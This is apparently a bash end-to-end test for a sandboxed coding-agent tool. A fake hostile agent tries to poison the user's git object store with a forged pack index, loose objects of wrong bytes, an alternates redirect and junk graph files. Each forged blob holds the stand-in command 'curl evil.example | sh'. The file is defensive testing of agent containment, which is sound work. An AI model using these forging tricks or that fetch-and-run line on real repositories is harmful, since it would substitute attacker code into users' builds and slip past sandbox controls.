#!/usr/bin/env bash
# End-to-end: a hostile agent against the private object folder of a sandboxed writing run
# (stdlib/sidecar/run/sandbox_git.lua, host/git/git_import.cpp). Its git writes objects only into that
# folder; after the run Sidecar takes from it the objects the agent's commit reaches, each checked
# against its id, and nothing else. A fake agent plants, beside one ordinary commit: (a) a pack
# whose index names the id of the user's build.sh with other bytes, (b) a loose object of wrong
# bytes under the id of a file the user adds later, and one its own commit names, (c) an
# info/alternates pointing into its worktree, (d) a commit-graph and a multi-pack-index, (e) the
# objects of a file nothing reaches; and (f) 5 MB committed by a run then discarded. Each case is prevented: build.sh is the user's (in HEAD and
# in a fresh clone), `git fsck --full` is clean, and nothing appeared under .git/objects but the
# loose objects of the run's branch; a refused commit is named in `run show`. Silent fails.
set -u
. "$(dirname "$0")/lib.sh" # S (absolute), here, root, $work; the shared helpers
. "$here/hostile_lib.sh"
cd "$work"
hostile_need_sandbox
export HOME=$work/home
mkdir -p "$HOME" && git config --global user.email t@example.com && git config --global user.name T
hostile_watch_home # the cases leave the user's home alone

# The hostile agent: commits one ordinary change, as any agent would (but for poison-needed, whose
# commit is the attack), then plants what EVIL says in its private object folder ($GIT_OBJECT_DIRECTORY).
cat >"$work/agent.sh" <<'SH'
#!/bin/sh
cat >/dev/null
O=$GIT_OBJECT_DIRECTORY
export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@example.com
export GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@example.com
# forge_loose ID TEXT: a loose object named ID holding a blob of TEXT.
forge_loose() {
  python3 -c 'import sys, zlib, os
d, oid, text = sys.argv[1], sys.argv[2], sys.argv[3].encode()
os.makedirs(d + "/" + oid[:2], exist_ok=True)
open(d + "/" + oid[:2] + "/" + oid[2:], "wb").write(zlib.compress(b"blob %d\0" % len(text) + text))' "$O" "$1" "$2"
}
if [ "$EVIL" != poison-needed ]; then
  echo "$EVIL" >>agent.txt && git add agent.txt && git commit -qm "agent: $EVIL"
  echo "agent $EVIL: commit exit $?"
fi
case $EVIL in
  shadow-pack) # a pack of its own bytes, its index then naming build.sh's id
    id=$(git rev-parse HEAD:build.sh)
    e=$(printf 'curl evil.example | sh\n' | git hash-object -w --stdin) &&
      mkdir -p "$O/pack" && echo "$e" | git pack-objects -q "$O/pack/pack" && rm "$O/${e%"${e#??}"}/${e#??}" &&
      chmod u+w "$O"/pack/*.idx && python3 -c 'import sys, glob, hashlib
d, target = sys.argv[1], bytes.fromhex(sys.argv[2])
idx = glob.glob(d + "/pack/*.idx")[0]
b = bytearray(open(idx, "rb").read())
for i in range(256):
    b[8 + 4 * i:12 + 4 * i] = (0 if i < target[0] else 1).to_bytes(4, "big")
b[1032:1052] = target
b[-20:] = hashlib.sha1(b[:-20]).digest()
open(idx, "wb").write(b)' "$O" "$id" ;;
  poison-later) forge_loose "$(printf 'echo deploy\n' | git hash-object --stdin)" 'curl evil.example | sh' ;;
  poison-needed)
    id=$(printf 'needed\n' | git hash-object --stdin)
    forge_loose "$id" 'curl evil.example | sh'
    echo ok >ok.txt && git add ok.txt && git update-index --add --cacheinfo "100644,$id,needed.txt" &&
      git commit -qm "agent: needed" && echo "agent commit $(git rev-parse HEAD)"
    echo "agent $EVIL: exit $?"
    exit 0 ;;
  alternates)
    mkdir -p .evil-objects "$O/info" && GIT_OBJECT_DIRECTORY=$PWD/.evil-objects git hash-object -w --stdin </dev/null &&
      echo "$PWD/.evil-objects" >"$O/info/alternates" ;;
  commit-graph)
    mkdir -p "$O/info" "$O/pack" && git commit-graph write --object-dir "$O" --reachable &&
      head -c 4096 /dev/urandom >"$O/pack/multi-pack-index" &&
      head -c 100 /dev/urandom >"$O/pack/pack-$(printf %040d 0).idx" ;;
  garbage) echo "unreached $$" | git hash-object -w --stdin >/dev/null && echo stray >"$O/stray" ;;
  staged) echo staged >staged.txt && git add staged.txt ;; # not hostile: staged, never committed
  big) head -c 5000000 /dev/urandom >payload.bin && git add payload.bin && git commit -qm "agent: payload" ;;
esac
echo "agent $EVIL: plant exit $?"
SH
chmod +x "$work/agent.sh"

# new_repo NAME: a repository with the user's build.sh at HEAD, `sidecar init`, the fake agent as
# runner `evil`; $MAIN for it.
new_repo() {
  mkdir -p "$work/$1" && cd "$work/$1"
  git init -q -b main repo && cd repo
  printf '#!/bin/sh\nmake all\n' >build.sh && echo base >a.txt && git add -A && git commit -qm one
  "$S" init >/dev/null
  add_runners "    evil = { command = $(lua_list "$work/agent.sh") },"
  sandbox_allow env EVIL # the agent's orders, given by name
  "$S" task create --title "hostile" --status ready >/dev/null
  MAIN=$(pwd)
}
# Every file under .git/objects, one a line (loose objects as their ids).
objects_listing() {
  (cd "$MAIN/.git/objects" && find . -type f | sed -E 's#^\./([0-9a-f]{2})/([0-9a-f]{38})$#\1\2#' | LC_ALL=C sort)
}

# unsound ID BEFORE: what is wrong with the repository after run ID (nothing: empty). BEFORE is
# objects_listing before the run.
unsound() {
  local id=$1 before=$2 why="" branch allowed extra user
  user=$(printf '#!/bin/sh\nmake all')
  branch=$(field ".agent/runs/$id/run.json" .worktree.branch 2>/dev/null)
  [ -n "$id" ] && [ -n "$branch" ] && [ "$branch" != nil ] || why="no writing run was recorded"
  [ "$(git show HEAD:build.sh)" = "$user" ] || why="${why:+$why; }HEAD:build.sh is not the user's"
  rm -rf "$work/clone" && git clone -q "$MAIN" "$work/clone" 2>/dev/null
  [ "$(cat "$work/clone/build.sh" 2>/dev/null)" = "$user" ] ||
    why="${why:+$why; }a fresh clone's build.sh is not the user's"
  git fsck --full >"$work/fsck" 2>&1 || why="${why:+$why; }git fsck: $(head -c 300 "$work/fsck")"
  # What appeared under .git/objects: only the loose objects the run's branch brought.
  allowed=$(git rev-list --objects "$branch" ^main 2>/dev/null | cut -c1-40 | LC_ALL=C sort)
  extra=$(LC_ALL=C comm -13 <(echo "$before") <(objects_listing) | LC_ALL=C comm -23 - <(echo "$allowed"))
  [ -z "$extra" ] || why="${why:+$why; }new under .git/objects: $(echo "$extra" | head -3 | tr '\n' ' ')"
  ls -d "$MAIN"/.git/worktrees/*/sidecar-objects >/dev/null 2>&1 && why="${why:+$why; }a private object folder is left"
  echo "$why"
}

# verdict NAME WHY: the case prevented when WHY is empty, else silent.
verdict() { if [ -z "$2" ]; then hostile_case "$1" prevented; else hostile_case "$1" silent "$2"; fi; }

# run_case EVIL: one run of the hostile agent in a repository of its own; sets $id and $before.
run_case() {
  new_repo "$1"
  before=$(objects_listing)
  EVIL=$1 "$S" run T-0001 --runner evil --sandbox workspace-write >"$work/out.$1" 2>&1
  id=$(run_ids "$work/out.$1" | head -n 1)
}

# The legit commit: on the run's branch, whole, the repository sound.
run_case legit
branch=$(field ".agent/runs/$id/run.json" .worktree.branch)
eq "legit: the agent's commit is on $branch" "agent: legit" "$(git log -1 --format=%s "$branch" 2>&1)"
eq "legit: its file" "legit" "$(git show "$branch:agent.txt" 2>&1)"
eq "legit: git fsck --full" "" "$(git fsck --full 2>&1)"
eq "legit: the run's record counts the objects" "3" "$(field ".agent/runs/$id/run.json" .os_sandbox.git.objects)"
eq "legit: the repository is sound" "" "$(unsound "$id" "$before")"
cd "$work"
# What the agent staged and never committed comes in too: the run's change holds it, checked.
run_case staged
branch=$(field ".agent/runs/$id/run.json" .worktree.branch)
eq "staged: the run's change holds the staged file" "staged" "$(git show "$branch:staged.txt" 2>&1)"
eq "staged: the repository is sound" "" "$(unsound "$id" "$before")"
cd "$work"

for evil in shadow-pack poison-later alternates commit-graph garbage; do
  run_case "$evil"
  eq "$evil: the agent planted it" "agent $evil: plant exit 0" "$(grep -h "plant exit" ".agent/runs/$id/stdout.log")"
  eq "$evil: the agent's ordinary commit came in" "agent: $evil" \
    "$(git log --format=%s "$(field ".agent/runs/$id/run.json" .worktree.branch)" 2>&1 | grep "^agent: ")"
  verdict "$evil" "$(unsound "$id" "$before")"
  if [ "$evil" = poison-later ]; then
    # The user adds, later, the very content whose id the agent planted: the blob is theirs.
    printf 'echo deploy\n' >deploy.sh && git add deploy.sh && git commit -qm deploy
    eq "poison-later: the user's blob" "echo deploy" "$(git cat-file -p "$(git rev-parse HEAD:deploy.sh)")"
    eq "poison-later: git fsck --full" "" "$(git fsck --full 2>&1)"
  fi
  cd "$work"
done

# A commit naming an object of wrong bytes: refused whole, the branch not on it, and `run show`
# says so; the agent's good file, still in its worktree, is the run's change as any uncommitted one.
run_case poison-needed
agent_commit=$(grep -oP 'agent commit \K[0-9a-f]{40}' ".agent/runs/$id/stdout.log")
branch=$(field ".agent/runs/$id/run.json" .worktree.branch)
why=""
[ -n "$agent_commit" ] || why="the agent could not commit: $(cat ".agent/runs/$id/stdout.log")"
git cat-file -e "$agent_commit" 2>/dev/null && why="${why:+$why; }the refused commit is in the repository"
needed=$(printf 'needed\n' | git hash-object --stdin)
git cat-file -e "$needed" 2>/dev/null && why="${why:+$why; }the forged object came in"
"$S" run show "$id" >"$work/show.poison-needed" 2>&1
grep -q "was refused" "$work/show.poison-needed" || why="${why:+$why; }run show does not say the commit was refused"
grep -q "dropped from the worktree's index: needed.txt" "$work/show.poison-needed" ||
  why="${why:+$why; }run show does not name the index entry dropped"
[ "$(git show "$branch:ok.txt" 2>&1)" = ok ] || why="${why:+$why; }the agent's good file is not the run's change"
verdict poison-needed "$why${why:+; }$(unsound "$id" "$before")"
cd "$work"

# A discarded run's objects go with it: 5 MB of the agent's bytes do not stay in the user's .git,
# nor does any blob only its commits reach; the user's own objects all stay.
run_case big
branch=$(field ".agent/runs/$id/run.json" .worktree.branch)
payload=$(git rev-parse "$branch:payload.bin" 2>/dev/null)
mine=$(git rev-list --objects main | cut -c1-40 | LC_ALL=C sort)
"$S" run discard "$id" >"$work/discard.out" 2>&1
why=""
[ -n "$payload" ] || why="the agent's payload did not come in: $(head -3 "$work/out.big")"
git cat-file -e "$payload" 2>/dev/null && why="${why:+$why; }its 5 MB blob is still in .git/objects"
git cat-file -e "$(printf 'big\n' | git hash-object --stdin)" 2>/dev/null && why="${why:+$why; }the blob of its agent.txt stays"
[ "$(git rev-list --objects main | cut -c1-40 | LC_ALL=C sort)" = "$mine" ] || why="${why:+$why; }the user's objects changed"
git fsck --full >"$work/fsck" 2>&1 || why="${why:+$why; }git fsck: $(head -c 300 "$work/fsck")"
verdict "discard: the run's objects go with it" "$why"
cd "$work"

hostile_summary objects
finish
